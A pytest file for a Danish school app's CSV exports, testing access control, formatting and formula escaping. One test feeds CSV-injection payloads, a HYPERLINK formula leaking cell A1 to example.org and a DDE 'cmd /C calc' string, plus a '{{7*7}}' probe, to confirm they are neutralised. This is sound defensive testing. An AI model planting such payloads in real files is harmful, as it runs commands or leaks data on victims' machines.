"""Lists as CSV: what one may read, in the edition one may read, harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from sqlalchemy import delete

from app.core.db import db
from app.cycles.models import Audience
from tests import make
from tests.statements import MOST_A_PAGE, count_statements


@pytest.fixture
def team(flask_app):
    return make.make_team()


def rows(client, address):
    """The file as a spreadsheet with Danish settings reads it."""
    response = client.get(address).response
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.headers["Cache-Control"] == "no-store"
    assert response.data.startswith(b"\xef\xbb\xbf")
    lines = csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), delimiter=";")
    headings, *others = list(lines)
    return [dict(zip(headings, row, strict=True)) for row in others]


def test_member_gets_the_teams_own_list_as_it_stands(as_, team):
    make.make_closed_cycle(
        team,
        title="Årgang",
        effect="large",
        grades=[5, 6],
        focus_area=make.make_focus_area("Ro og trivsel", team_id=team.id),
    )
    make.make_cycle(team, title="Ærø", kind="positive_deviation")

    found = rows(as_(make.make_member(team)), f"/teams/{team.public_id}/liste.csv")

    assert [row["Titel"] for row in found] == ["Ærø", "Årgang"]
    trial = found[1]
    assert trial["Slags"] == "Prøvehandling"
    assert trial["Fase"] == "Afsluttet"
    assert trial["Begynder"] == "08.09.2025"
    assert trial["Hvad beslutter vi?"] == "Fasthold"
    assert trial["Hvor stor forskel gjorde det?"] == "stor forskel"
    assert trial["Indsatsområde"] == "Ro og trivsel"
    assert trial["Klassetrin"] == "5. og 6. klasse"
    assert trial["Udgave"] == "Teamets egen udgave"


def test_leader_gets_only_what_the_team_shared(as_, team):
    leader = as_(make.make_leader(team.school))
    cycle = make.share(make.make_closed_cycle(team, title="Delt"), "school", on=date(2025, 10, 3))
    make.make_closed_cycle(team, title="Kun vores")
    cycle.title = "Nyere titel"

    found = rows(leader, f"/teams/{team.public_id}/liste.csv")

    assert [(row["Titel"], row["Udgave"]) for row in found] == [("Delt", "Delt 3. oktober 2025")]


def test_team_that_shared_nothing_has_no_list_for_others(as_, team):
    make.make_cycle(team)
    as_(make.make_leader(team.school)).get(f"/teams/{team.public_id}/liste.csv", status=404)
    as_(make.make_person()).get(f"/teams/{team.public_id}/liste.csv", status=404)


def test_shared_with_us_leaves_own_teams_out(as_, team):
    other = make.make_team("2. årgang", school=team.school)
    make.share(make.make_closed_cycle(other, title="Fra de andre"), "school")
    make.share(make.make_closed_cycle(team, title="Vores"), "school")
    make.make_closed_cycle(other, title="Ikke delt")

    found = rows(as_(make.make_member(team)), "/delt-med-os.csv")

    assert [row["Titel"] for row in found] == ["Fra de andre"]


def test_schools_list_is_the_same_for_team_and_leader(as_, team):
    make.share(make.make_closed_cycle(team, title="Delt"), "school")
    buddy = make.make_team("2. årgang", school=team.school)
    make.share(make.make_closed_cycle(team, title="Kun makkerteam"), buddy)
    cycle = make.share(make.make_closed_cycle(team, title="Trukket tilbage"), "school")
    db.session.execute(delete(Audience).where(Audience.cycle_id == cycle.id))
    address = f"/skoler/{team.school.public_id}/delt.csv"

    for person in (make.make_member(team), make.make_member(buddy), make.make_leader(team.school)):
        found = rows(as_(person), address)
        assert [(row["Titel"], row["Udgave"][:4]) for row in found] == [("Delt", "Delt")]
    as_(make.make_person()).get(address, status=404)


def test_consultant_gets_what_is_shared_with_the_organisation(as_, team):
    organisation = team.school.organisation
    network = make.make_network(members=(organisation,))
    elsewhere = make.make_team(school=make.make_school("Fjordlyng"))
    make.share(make.make_closed_cycle(team, title="Til kommunen"), "organisation")
    make.share(make.make_closed_cycle(team, title="Kun til skolen"), "school")
    make.share(make.make_closed_cycle(elsewhere, title="Fra netværket"), network)
    address = f"/organisationer/{organisation.public_id}/delt.csv"

    found = rows(as_(make.make_consultant(organisation)), address)

    assert sorted(row["Titel"] for row in found) == ["Fra netværket", "Til kommunen"]
    as_(make.make_member(team)).get(address, status=403)


def test_formulas_are_text(as_, team):
    evil = '=HYPERLINK("http://example.org?"&A1;"klik")'
    make.make_cycle(team, title=evil, action="+1+cmd|' /C calc'!A0", tags=["@x", "-2"])

    row = rows(as_(make.make_member(team)), f"/teams/{team.public_id}/liste.csv")[0]

    assert row["Titel"] == "'" + evil
    assert row["Hvad vil vi prøve?"].startswith("'+1")
    assert row["Emneord"].startswith("'@x")


def test_text_stays_as_typed(as_, team):
    typed = 'Linje 1\nLinje 2; "citat" {{7*7}} %s <b> 😀'
    make.make_cycle(team, action=typed)

    row = rows(as_(make.make_member(team)), f"/teams/{team.public_id}/liste.csv")[0]

    assert row["Hvad vil vi prøve?"] == typed


def test_as_few_statements_for_many_records_as_for_one(as_, team):
    client, address = as_(make.make_member(team)), f"/teams/{team.public_id}/liste.csv"
    seen = []
    for number in range(12):
        cycle = make.make_closed_cycle(team, title=f"Nr. {number}")
        make.make_note(cycle, make.make_person())
        if number in (0, 11):
            with count_statements() as statements:
                client.get(address)
            seen.append(statements.count)

    assert seen[0] == seen[1] <= MOST_A_PAGE
